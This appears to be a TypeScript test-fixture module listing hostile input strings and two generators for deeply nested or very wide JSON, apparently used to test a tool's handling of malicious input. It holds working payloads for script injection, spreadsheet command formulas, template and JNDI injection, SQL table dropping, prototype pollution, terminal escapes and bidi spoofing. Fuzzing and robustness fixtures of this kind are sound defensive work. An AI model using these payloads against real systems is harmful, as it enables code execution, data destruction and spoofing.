/** Lines that browsers, terminals, spreadsheets or templates would obey; each has the word `hostile`. */
export const EVIL_LINES: readonly string[] = [
  'hostile script <script>alert(1)</script>',
  'hostile image <img src=x onerror=alert(1)> <svg onload=alert(1)> <iframe srcdoc="<script>alert(1)</script>">',
  'hostile link javascript:alert(1) data:text/html,<script>alert(1)</script> [a](javascript:alert(1))',
  'hostile terminal \u001b[2J\u001b[31mred\u001b]0;title\u0007 \u0000\u0001\u0008\u007f\u009b31m',
  'hostile direction \u202egnp.exe\u2066\u200f\ufeff\u2028\u2029',
  'hostile sheet =cmd|" /C calc"!A0 +1 @SUM(1) -2',
  'hostile template {{constructor.constructor("alert(1)")()}} ${7*7} #{7*7} <%= 7*7 %> ${jndi:ldap://x/a}',
  'hostile sql \'; DROP TABLE logs; -- " OR 1=1',
  'hostile names {"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}',
  'hostile surrogates \ud800 \udfff é\u0301\u0301\u0301\u0301',
  'hostile zalgo Z̸̢̛̛̗͎͖̺͎̠̣͎͇̹̭̰͓̒̀̾a̴l̶g̷o',
  'hostile percent %n%n%s%s %00 %u202e',
];

/** A document with an object so deep. */
export function nestedJson(depth: number): string {
  return `{"message":"hostile deep ${depth}","a":${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}}`;
}

/** A document with so many fields, one of them named as what objects come from. */
export function wideJson(fields: number): string {
  const own = Array.from({ length: fields }, (_, i) => `"field_${i}":"value ${i}"`);
  return `{"message":"hostile wide ${fields}","__proto__":{"polluted":1},${own.join(',')}}`;
}
